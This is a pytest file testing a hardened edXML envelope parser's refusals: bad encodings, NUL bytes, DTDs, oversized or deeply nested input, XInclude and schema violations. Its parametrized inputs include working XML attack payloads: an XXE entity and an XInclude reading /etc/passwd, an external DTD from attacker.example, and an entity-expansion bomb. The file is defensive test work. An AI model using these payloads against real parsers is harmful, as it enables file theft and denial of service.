"""Hardened parsing: each refusal with its own type, and the real-world variations accepted."""

from __future__ import annotations

import codecs
import re
from collections.abc import Callable

import pytest
from envelope_helpers import base_spec
from lxml import etree

from gateway.envelope import (
    EDXML_NS,
    EncodingNotUtf8,
    Limits,
    NulByte,
    SchemaInvalid,
    XmlDtdForbidden,
    XmlMalformed,
    XmlTooDeep,
    XmlTooLarge,
    XmlTooManyElements,
    XmlXIncludeForbidden,
    build_document,
    build_status,
    message_kind,
    parse_envelope,
    read_document,
    read_status,
)
from gateway.envelope.build import StatusSpec
from gateway.envelope.model import ResponseFor

E = f"{{{EDXML_NS}}}"


@pytest.fixture
def unsigned() -> bytes:
    return build_document(base_spec())


def test_accepts_a_built_document(unsigned: bytes) -> None:
    root = parse_envelope(unsigned)
    assert root.tag == E + "edXML"
    assert message_kind(root) == "document"


def test_refuses_envelope_over_the_size_limit(unsigned: bytes) -> None:
    with pytest.raises(XmlTooLarge):
        parse_envelope(unsigned, Limits(max_envelope_bytes=len(unsigned) - 1))


@pytest.mark.parametrize("encoding", ["TCVN3", "VNI-Windows", "windows-1258", "ISO-8859-1"])
def test_refuses_legacy_declared_encoding(unsigned: bytes, encoding: str) -> None:
    data = unsigned.replace(b"encoding='UTF-8'", f"encoding='{encoding}'".encode(), 1)
    assert data != unsigned
    with pytest.raises(EncodingNotUtf8):
        parse_envelope(data)


def test_refuses_tcvn3_bytes_without_declaration(unsigned: bytes) -> None:
    # "Hà Nội" in TCVN3 (ABC) is b"H\xb5 N\xa9i": not UTF-8.
    data = unsigned.replace("Hà Nội".encode(), b"H\xb5 N\xa9i", 1)
    with pytest.raises(EncodingNotUtf8):
        parse_envelope(data)


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-32"])
def test_refuses_utf16_and_utf32(unsigned: bytes, codec: str) -> None:
    text = unsigned.decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'")
    with pytest.raises(EncodingNotUtf8):
        parse_envelope(text.encode(codec))


def test_accepts_utf8_bom(unsigned: bytes) -> None:
    assert parse_envelope(codecs.BOM_UTF8 + unsigned).tag == E + "edXML"


def test_refuses_nul_byte(unsigned: bytes) -> None:
    data = unsigned.replace(b"<edXML:Subject>", b"<edXML:Subject>\x00", 1)
    with pytest.raises(NulByte):
        parse_envelope(data)


@pytest.mark.parametrize(
    "prolog",
    [
        b'<!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">',
        b'<!DOCTYPE edXML [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b"<!DOCTYPE edXML>",
        b"<!doctype edXML>",
    ],
)
def test_refuses_any_dtd(unsigned: bytes, prolog: bytes) -> None:
    decl_end = unsigned.index(b"?>") + 2
    data = unsigned[:decl_end] + b"\n" + prolog + unsigned[decl_end:]
    with pytest.raises(XmlDtdForbidden):
        parse_envelope(data)


def test_refuses_undeclared_entity_reference_as_malformed(unsigned: bytes) -> None:
    data = unsigned.replace(b"<edXML:Subject>", b"<edXML:Subject>&xxe;", 1)
    with pytest.raises(XmlMalformed):
        parse_envelope(data)


def test_refuses_malformed_xml(unsigned: bytes) -> None:
    with pytest.raises(XmlMalformed):
        parse_envelope(unsigned[: len(unsigned) // 2])


def test_malformed_detail_does_not_echo_input(unsigned: bytes) -> None:
    data = unsigned.replace(b"</edXML:Subject>", b"</SECRETTAG>", 1)
    with pytest.raises(XmlMalformed) as caught:
        parse_envelope(data)
    assert "SECRETTAG" not in caught.value.detail


def test_refuses_nesting_deeper_than_the_limit(unsigned: bytes) -> None:
    deep = b"<edXML:Content>" + b"<x>" * 100 + b"</x>" * 100 + b"</edXML:Content>"
    data = unsigned.replace(b"<edXML:Subject>", deep + b"<edXML:Subject>", 1)
    with pytest.raises(XmlTooDeep):
        parse_envelope(data)


def test_refuses_more_elements_than_the_limit(unsigned: bytes) -> None:
    count = sum(1 for _ in etree.fromstring(unsigned).iter("*"))
    with pytest.raises(XmlTooManyElements):
        parse_envelope(unsigned, Limits(max_elements=count - 1))
    assert parse_envelope(unsigned, Limits(max_elements=count)).tag == E + "edXML"


def test_refuses_xinclude(unsigned: bytes) -> None:
    xi = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    data = unsigned.replace(b"<edXML:Subject>", b"<edXML:Subject>" + xi, 1)
    with pytest.raises(XmlXIncludeForbidden):
        parse_envelope(data)


@pytest.mark.parametrize(
    "change",
    [
        lambda x: x.replace(b"<edXML:Subject>", b"<edXML:Unknown>x</edXML:Unknown><edXML:Subject>", 1),
        lambda x: x.replace(b"<edXML:CodeNumber>1234</edXML:CodeNumber>", b"", 1),
        lambda x: re.sub(rb"<edXML:From>.*?</edXML:From>", b"", x, count=1, flags=re.S),
        # the envelope declares the edXML prefix itself (the samples' layout): keep the declaration
        lambda x: x.replace(b"<edXML:edXMLEnvelope ", b"<o:edXMLEnvelope xmlns:o='urn:other' ", 1).replace(
            b"</edXML:edXMLEnvelope>", b"</o:edXMLEnvelope>", 1
        ),
    ],
    ids=["unknown-element", "missing-code-number", "missing-from", "wrong-namespace"],
)
def test_refuses_schema_violations(unsigned: bytes, change: Callable[[bytes], bytes]) -> None:
    data = change(unsigned)
    assert data != unsigned
    with pytest.raises(SchemaInvalid):
        parse_envelope(data)


def test_refuses_two_message_headers(unsigned: bytes) -> None:
    root = etree.fromstring(unsigned)
    header = root.find(f"{E}edXMLEnvelope/{E}edXMLHeader")
    assert header is not None
    header.insert(0, etree.fromstring(etree.tostring(header[0])))
    with pytest.raises(SchemaInvalid):
        parse_envelope(etree.tostring(root, encoding="UTF-8", xml_declaration=True))


def test_accepts_unprefixed_children_and_shuffled_order(unsigned: bytes) -> None:
    root = etree.fromstring(unsigned)
    message_header = root.find(f"{E}edXMLEnvelope/{E}edXMLHeader/{E}MessageHeader")
    assert message_header is not None
    message_header[:] = list(reversed(list(message_header)))
    text = etree.tostring(root, encoding="unicode")
    text = text.replace("edXML:", "").replace('xmlns:edXML="' + EDXML_NS + '"', "")
    reparsed = parse_envelope(("<?xml version='1.0' encoding='utf-8'?>" + text).encode())
    meta = read_document(reparsed)
    assert meta.sender.organ_id == "000.00.00.G22"


def test_accepts_status_written_as_status_element() -> None:
    rf = ResponseFor("000.00.00.G22", document_id="000.00.00.G22,2025/06/01,1234/VPCP-TTĐT")
    data = build_status(StatusSpec(response_for=rf, header_name="Status"))
    root = parse_envelope(data)
    assert message_kind(root) == "status"
    assert read_status(root).status_code == "03"
